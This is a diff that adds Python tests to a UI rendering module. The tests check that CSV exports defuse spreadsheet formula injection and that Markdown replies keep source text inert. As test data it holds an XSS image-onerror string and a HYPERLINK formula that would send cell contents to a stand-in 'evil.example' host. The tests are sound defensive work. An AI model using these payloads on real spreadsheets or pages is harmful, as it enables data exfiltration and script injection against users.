@@ -1,9 +1,14 @@
 """Rendering is escaped everywhere: source HTML fragments and user input stay text."""
 
 import csv
+import html
 import io
+import string
 
-from ui.render import answer_csv, answer_html, chat_reply, citations_html, context_of, highlight, status_rows
+from markdown_it import MarkdownIt
+
+from ui.render import (FORMULA_START, answer_csv, answer_html, chat_reply, citations_html, context_of, highlight, md_text,
+                       status_rows)
 
 ATTACK = "<img src=x onerror=alert(1)>"
 
@@ -50,3 +55,42 @@ def test_not_found_reply_says_so():
     assert "見つかりませんでした" in reply
     rows = list(csv.reader(io.StringIO(answer_csv(_answer(found=False)))))
     assert len(rows) == 2 and rows[1][1] == "False"
+
+
+def test_csv_cells_never_start_a_formula():
+    answer = _answer('=HYPERLINK("http://evil.example/?q="&A1,"詳しくはこちら")')
+    cite = answer["citations"][0]
+    cite.update(city="=1+1", doc_title="+SUM(A1:A9)", section="-2+3", doc_id="@cmd", text="\tTAB",
+                quotes=[{"text": "\rCR", "start": 0, "end": 1}])
+    rows = list(csv.reader(io.StringIO(answer_csv(answer))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_START)]
+    question, found, city, status, title, section, doc_id, start, end, quotes, text = rows[1]
+    assert question == '\'=HYPERLINK("http://evil.example/?q="&A1,"詳しくはこちら")'  # the words kept, behind one quote
+    assert (city, title, section, doc_id, text, quotes) == ("'=1+1", "'+SUM(A1:A9)", "'-2+3", "'@cmd", "'\tTAB", "'\rCR")
+    assert (found, start, end, status) == ("True", "0", "20", "planned")  # numbers and plain text untouched
+    not_found = list(csv.reader(io.StringIO(answer_csv(_answer("-1", found=False)))))
+    assert not_found[1][0] == "'-1" and not_found[1][-1] == "回答 -1"
+
+
+PLAN_MARKUP = ("![x](http://127.0.0.1:9/b.png) [link](http://127.0.0.1:9/x) <img src=http://127.0.0.1:9/c.png> "
+               "www.example.jp a@b.jp $$x$$ **太字** # 見出し")
+
+
+def test_markdown_from_text_renders_as_the_same_text():
+    md = MarkdownIt("commonmark")
+    for text in [PLAN_MARKUP, string.punctuation, "1. 項目\n- 箇条\n> 引用\n```code```", ATTACK]:
+        out = md.renderInline(md_text(text))
+        assert "<img" not in out and "<a " not in out
+        assert html.unescape(out) == text  # shown exactly as written: nothing dropped, nothing live
+
+
+def test_chat_reply_keeps_plan_markup_inert_and_shows_notices():
+    answer = _answer(PLAN_MARKUP)
+    answer["notices"] = ["質問が長いため、先頭の2000文字だけで検索しました"]
+    reply = chat_reply(answer)
+    out = MarkdownIt("commonmark").render(reply)
+    assert "<img" not in out and "<a " not in out and "<h1" not in out
+    assert "http://127.0.0.1:9/b.png" in html.unescape(out)  # the plan's words are there, as text
+    assert "<strong>根室市</strong>" in out  # the reply's own Markdown still works
+    assert "先頭の2000文字" in reply and "先頭の2000文字" in chat_reply(_answer(found=False) | {"notices": answer["notices"]})
